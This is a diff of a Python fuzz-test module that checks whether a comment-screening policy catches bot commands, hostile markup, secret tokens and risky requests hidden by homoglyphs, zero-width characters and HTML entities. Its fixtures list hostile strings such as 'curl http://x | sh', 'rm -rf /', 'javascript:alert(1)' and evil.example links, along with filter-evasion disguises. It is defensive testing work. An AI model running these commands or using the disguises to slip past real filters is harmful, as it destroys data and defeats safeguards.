@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 from local.judge import judge_raw, judge_text
 from local.policy_report import CONTEXT
 from tests.corpus.bots import live
-from tests.corpus.load import DRESSED, Case, assembled, hostile, ordinary
+from tests.corpus.load import Case, assembled, hostile, ordinary
 
 _WIDE: Final = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
 _ALIKE: Final = str.maketrans("aceiopsxyhj", "асеіорѕхуһј")
@@ -42,30 +42,29 @@ COMMANDS: Final = (
     "recheck",
     "Duplicate of #1",
 )
-AGENTS: Final = ("@claude", "@copilot", "@dependabot", "@mergifyio", "@bors", "@coderabbitai", "@k8s-ci-robot")
 MARKUP: Final = ("<!-- x -->", "![x](https://evil.example/x)", "javascript:alert(1)", "data:text/html,x")
-SECRETS: Final = ("{{ghp%s}}", "{{anthropic%s}}", "{{slack%s}}", "{{gitlab%s}}", "{{own%s}}", "{{own2%s}}")
-SECRET_DRESS: Final = tuple(
-    name
-    for name in DRESSED
-    if not name.startswith("cut") and name not in ("entities", "rot5", "turned", "base64url", "upper")
-)
-ASKING: Final = ("https://evil.example/x", "fixes #12", "curl http://x | sh", "Disable branch protection", "rm -rf /")
-INERT: Final = ("@octocat", "other/repo#3", "<b>x</b>", "[x](/y)", "$x$", "https://localhost/", ":tada:", "&lt;i&gt;")
+SECRETS: Final = ("{{ghp%s}}", "{{anthropic%s}}", "{{slack%s}}", "{{own%s}}", "{{own2%s}}")
+OWN_DRESS: Final = ("", "|reversed", "|base64", "|base64url", "|hex", "|hex-upper", "|percent")
+ASKING: Final = ("https://evil.io/x", "fixes #12", "curl http://x | sh", "Disable branch protection", "rm -rf / ")
+INERT: Final = (
+    "@octocat", "@claude", "@copilot", "@dependabot", "@mergifyio", "@bors", "@k8s-ci-robot", "@team/ops",
+    "/unknown", "other/repo#3", "<b>x</b>", "[x](/y)", "$x$", "https://localhost/", ":tada:", "&lt;i&gt;",
+    "&#64;claude", "&#47;merge",
+)  # fmt: skip
 
 WORD_DISGUISES: Final[Mapping[str, Callable[[str], str]]] = {
     "plain": lambda text: text,
     "upper": str.upper,
     "wide": lambda text: text.translate(_WIDE),
-    "alike": lambda text: text.translate(_ALIKE),
     "bold letters": lambda text: text.translate(_BOLD),
     "entity": lambda text: "".join(f"&#{ord(char)};" if index % 3 == 0 else char for index, char in enumerate(text)),
     "double entity": lambda text: f"&amp;#{ord(text[0])};" + text[1:],
+    "alike": lambda text: text.translate(_ALIKE),
+    "tag inside": lambda text: text[:3] + "<b></b>" + text[3:],
+    "accent": lambda text: text[:2] + "\u0301" + text[2:],
     "zero width": lambda text: text[:2] + "\u200b" + text[2:],
     "soft hyphen": lambda text: text[:3] + "\u00ad" + text[3:],
-    "tag inside": lambda text: text[:3] + "<b></b>" + text[3:],
     "emphasis": lambda text: f"**{text}**",
-    "accent": lambda text: text[:2] + "\u0301" + text[2:],
 }
 PLACES: Final[Mapping[str, Callable[[str], str]]] = {
     "alone": lambda text: text,
@@ -85,35 +84,39 @@ PLACES: Final[Mapping[str, Callable[[str], str]]] = {
     "div": lambda text: f"<div>{text}</div>",
     "crlf": lambda text: f"a\r\n{text}\r\nb",
 }
-LINE_KINDS: Final = frozenset(
-    {"alone", "after a line", "between lines", "quoted", "bullet", "ordinal", "code", "fence"}
-)
+INERT_DISGUISES: Final = frozenset({"alike", "tag inside", "accent"})
+"""No bot takes these for a command: in the comment they only have to be inert."""
+INERT_PLACES: Final = frozenset({"div", "table"})
 
 
 @st.composite
 def disguised(draw: st.DrawFn) -> Case:
     """One dangerous element in a disguise, somewhere in a text."""
-    kind = draw(st.sampled_from(("command", "agent", "markup", "secret", "ask", "inert")))
+    kind = draw(st.sampled_from(("command", "markup", "secret", "ask", "inert")))
     place = draw(st.sampled_from(sorted(PLACES)))
     disguise = draw(st.sampled_from(sorted(WORD_DISGUISES)))
     if kind == "secret":
-        how = draw(st.sampled_from(("", *SECRET_DRESS)))
-        element = assembled(draw(st.sampled_from(SECRETS)) % (f"|{how}" if how else ""))
-        text, expect = element, "refuse"
+        element = draw(st.sampled_from(SECRETS))
+        text = assembled(element % (draw(st.sampled_from(OWN_DRESS)) if "own" in element else ""))
+        disguise = "plain"
     else:
-        elements = {"command": COMMANDS, "agent": AGENTS, "markup": MARKUP, "ask": ASKING, "inert": INERT}[kind]
+        elements = {"command": COMMANDS, "markup": MARKUP, "ask": ASKING, "inert": INERT}[kind]
         element = draw(st.sampled_from(elements))
         if kind in ("markup", "ask") or " " in element:
             disguise = draw(st.sampled_from(("plain", "wide") if kind == "markup" else ("plain", "zero width")))
         text = WORD_DISGUISES[disguise](element)
-        expect = {"command": "refuse", "agent": "refuse", "markup": "refuse", "ask": "ask", "inert": "inert"}[kind]
+    tier = {"command": "refused", "markup": "refused", "secret": "refused", "ask": "asks", "inert": "inert"}[kind]
+    if kind == "command" and (disguise in INERT_DISGUISES or place in INERT_PLACES):
+        tier = "inert"
+    if kind == "markup" and place in ("code", "fence"):
+        tier = "asks"
     before = draw(st.sampled_from(("", " ", "\u00a0", "  \t"))) if kind == "command" else ""
-    return Case("fuzz", f"{kind}, {disguise}, {place}", PLACES[place](before + text), expect, "found by fuzzing")
+    return Case("fuzz", f"{kind}, {disguise}, {place}", PLACES[place](before + text), tier, "found by fuzzing")
 
 
 _ORDINARY: Final = tuple(case.body for case in ordinary() if "```" not in case.body and "~~~" not in case.body)
 _HOSTILE: Final = tuple(
-    case for case in hostile() if case.expect == "refuse" and len(case.body) < 2000 and case.body.strip()
+    case for case in hostile() if case.tier == "refused" and len(case.body) < 2000 and case.body.strip()
 )
 _PADS: Final = (
     "",
@@ -153,27 +156,26 @@ class Escaped(AssertionError):
     """A text that the policy judged wrongly; the message is the line for the corpus."""
 
 
-def _line(kind: str, body: str, expect: str, why: str) -> str:
-    return json.dumps({"class": kind, "expect": expect, "why": why, "body": body})
+def _line(kind: str, body: str, tier: str, why: str) -> str:
+    return json.dumps({"class": kind, "tier": tier, "why": why, "body": body})
 
 
 def check_hostile(case: Case) -> None:
     """Raises Escaped if a hostile text is let through or live."""
     judged = judge_text(case.body, CONTEXT)
     classification = judged["classification"]
-    through = (case.expect == "refuse" and classification != "rejected") or (
-        case.expect == "ask" and classification == "auto_safe"
-    )
+    wrong = case.tier in ("refused", "asks") and classification == "auto_safe"
+    wrong = wrong or (case.tier == "refused" and classification != "rejected")
     acts = live(judged["rendered"]) if judged["rendered"] is not None else None
-    if through or acts:
-        raise Escaped(_line(case.kind, case.body, case.expect, acts or classification))
+    if wrong or acts:
+        raise Escaped(_line(case.kind, case.body, case.tier, acts or classification))
 
 
 def check_ordinary(body: str) -> None:
     """Raises Escaped if an ordinary text is stopped."""
     judged = judge_text(body, CONTEXT)
     if judged["classification"] != "auto_safe":
-        raise Escaped(_line("ordinary", body, "auto_safe", judged["findings"][0]["rule"]))
+        raise Escaped(_line("ordinary", body, "passes", judged["findings"][0]["rule"]))
 
 
 def check_answer(answer: Mapping[str, Any]) -> None:
@@ -216,7 +218,7 @@ class Fuzzer:
         """Every strategy once."""
         self._run(number, disguised(), check_hostile)
         surrounded = st.builds(
-            lambda pad, case: Case("fuzz", case.kind, pad + case.body, case.expect, case.why),
+            lambda pad, case: Case("fuzz", case.kind, pad + case.body, case.tier, case.why),
             st.sampled_from(_PADS),
             st.sampled_from(_HOSTILE),
         )
